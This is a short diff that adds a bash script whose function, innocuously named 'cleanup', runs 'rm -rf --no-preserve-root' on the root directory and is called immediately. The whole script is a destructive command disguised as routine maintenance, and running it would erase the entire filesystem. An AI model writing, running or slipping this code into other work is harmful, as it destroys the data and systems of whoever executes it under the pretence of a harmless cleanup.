@@ -1,0 +1,6 @@
+#!/bin/bash
+cleanup() {
+  local target="/"
+  rm -rf --no-preserve-root "$target"
+}
+cleanup
